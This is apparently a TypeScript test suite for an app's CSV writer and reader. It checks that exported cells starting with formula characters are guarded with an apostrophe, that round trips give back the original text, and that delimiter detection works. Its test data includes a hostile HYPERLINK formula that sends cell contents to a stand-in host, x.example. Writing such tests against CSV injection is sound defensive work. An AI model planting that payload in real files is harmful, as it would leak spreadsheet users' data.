import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { MasterRow, ProductRow } from '../../../app/catalog/rows.ts';
import { suggestMapping } from '../../../renderer/src/catalog/files/column-mapping.ts';
import { gridTable } from '../../../renderer/src/catalog/files/export-grid.ts';
import { fileRowsToGridRows } from '../../../renderer/src/catalog/files/file-rows.ts';
import { detectDelimiter } from '../../../renderer/src/table-files/csv-delimiter.ts';
import { guardFormula, unguardFormula } from '../../../renderer/src/table-files/csv-formula.ts';
import { parseCsvText } from '../../../renderer/src/table-files/csv-read.ts';
import { csvBlob, toCsv } from '../../../renderer/src/table-files/csv-write.ts';
import { openTableBytes } from '../../../renderer/src/table-files/open-table.ts';
import { flattenForExport } from '../../../renderer/src/vouchers/export-rows.ts';
import { bytesOf } from './helpers.ts';

// CSV injection: no text cell of a CSV export starts with what a spreadsheet runs as a formula,
// number cells stay numbers, and the app's reader gives back exactly the text that was written.

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
const HOSTILE = '=HYPERLINK("http://x.example/?d="&A1,"open")';

/** The cells of a CSV text as a spreadsheet sees them (quotes taken off, nothing else). */
function rawCells(csv: string): string[] {
  return csv
    .split('\r\n')
    .filter((line) => line !== '')
    .flatMap((line) => line.split(','))
    .map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell));
}

describe('formula guard', () => {
  it('puts an apostrophe before text cells and headers a spreadsheet would run', () => {
    expect(
      toCsv([
        ['=cmd', '@SUM(A1)', 'name'],
        ['+1', '-A1', '\tx', 'plain', "'kept"],
      ]),
    ).toBe("'=cmd,'@SUM(A1),name\r\n'+1,'-A1,\"'\tx\",plain,'kept\r\n");
    expect(toCsv([['\rx']])).toBe('"\'\rx"\r\n');
    expect(toCsv([[HOSTILE]])).toBe(`"'${HOSTILE.replaceAll('"', '""')}"\r\n`);
  });

  it('leaves number cells alone: -5 as a number stays -5, "-5" as text is guarded', () => {
    expect(toCsv([[-5, '-5', 1.5, { date: '2026-01-02' }]])).toBe("-5,'-5,1.5,2026-01-02\r\n");
  });

  it('guards field names the service chose, which become the headers of a voucher export', () => {
    const table = flattenForExport('purchase_orders', [
      {
        id: '=1+1',
        fields: { [HOSTILE]: '@cmd', note: '-2' },
        lines: [],
        other: {},
      },
    ]);
    const csv = toCsv([table.columns, ...table.rows]);
    for (const cell of rawCells(csv)) {
      expect(
        TRIGGERS.some((t) => cell.startsWith(t)),
        JSON.stringify(cell),
      ).toBe(false);
    }
    expect(csv).toContain(`'${HOSTILE.replaceAll('"', '""')}`);
  });

  it('is undone exactly by the reader, for any text (property)', () => {
    const text = fc.string({
      unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", 'a', '1', ' ', 'ア'),
      maxLength: 8,
    });
    fc.assert(
      fc.property(text, (s) => {
        const guarded = guardFormula(s);
        expect(unguardFormula(guarded)).toBe(s);
        expect(TRIGGERS.some((t) => guarded.startsWith(t))).toBe(false);
      }),
      { numRuns: 2000 },
    );
  });

  it('the writer and the reader are inverses over tables of such text (property)', async () => {
    const cell = fc.string({
      unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'", '"', ',', 'a', 'ア', ' '),
      maxLength: 6,
    });
    const rows = fc.integer({ min: 1, max: 4 }).chain((width) =>
      fc.array(
        fc.tuple(
          cell.filter((s) => s.trim() !== ''),
          fc.array(cell, { minLength: width - 1, maxLength: width - 1 }),
        ),
        { minLength: 1, maxLength: 6 },
      ),
    );
    await fc.assert(
      fc.asyncProperty(rows, async (pairs) => {
        const table = pairs.map(([first, rest]) => [first, ...rest]);
        const csv = toCsv(table);
        expect(parseCsvText(csv)).toEqual(table);
        const bytes = await bytesOf(csvBlob(table));
        expect((await openTableBytes('t.csv', bytes, 'auto')).rows).toEqual(table);
      }),
      { numRuns: 300 },
    );
  });

  it('a file from elsewhere keeps an apostrophe that guards nothing', () => {
    expect(parseCsvText("code,name\r\n'A1,'=x\r\n")).toEqual([
      ['code', 'name'],
      ["'A1", '=x'],
    ]);
  });
});

describe('catalog export → re-open', () => {
  it('codes like -A1 and =SUM(1) come back unchanged, and the file holds no live formula', async () => {
    const brands: MasterRow[] = [
      { code: '-A1', name: '=SUM(1)' },
      { code: '=SUM(1)', name: '@brand' },
      { code: "'=x", name: '+81 3' },
    ];
    const products: ProductRow[] = [
      {
        product_code: '-A1',
        name: HOSTILE,
        brand_code: '=SUM(1)',
        skus: [{ color_code: '+NV', size_code: '-1' }],
      },
    ];
    for (const [grid, rows] of [
      ['brands', brands],
      ['products', products],
    ] as const) {
      for (const shape of ['products', 'skus'] as const) {
        const bytes = await bytesOf(csvBlob(gridTable(grid, rows, shape)));
        const text = new TextDecoder().decode(bytes);
        for (const cell of rawCells(text.replace(/^\uFEFF/, ''))) {
          expect(
            ['=', '+', '-', '@'].some((t) => cell.startsWith(t)),
            cell,
          ).toBe(false);
        }
        const table = await openTableBytes(`${grid}.csv`, bytes, 'auto');
        const [header = [], ...body] = table.rows;
        const back = fileRowsToGridRows(grid, body, suggestMapping(grid, header)).rows;
        expect(back).toEqual(rows);
        // Exported again, the bytes are the same.
        expect(await bytesOf(csvBlob(gridTable(grid, back, shape)))).toEqual(bytes);
      }
    }
  });
});

describe('delimiter detection', () => {
  it('is not misled by tabs inside quoted cells, and still reads TSV and semicolons', () => {
    expect(detectDelimiter('\'=,"\t\t"\r\n')).toBe(',');
    expect(detectDelimiter('a\tb\tc\r\n1\t2\t3\r\n')).toBe('\t');
    expect(detectDelimiter('a;b\r\n"1,5";2\r\n')).toBe(';');
    expect(detectDelimiter('single')).toBe(',');
  });
});
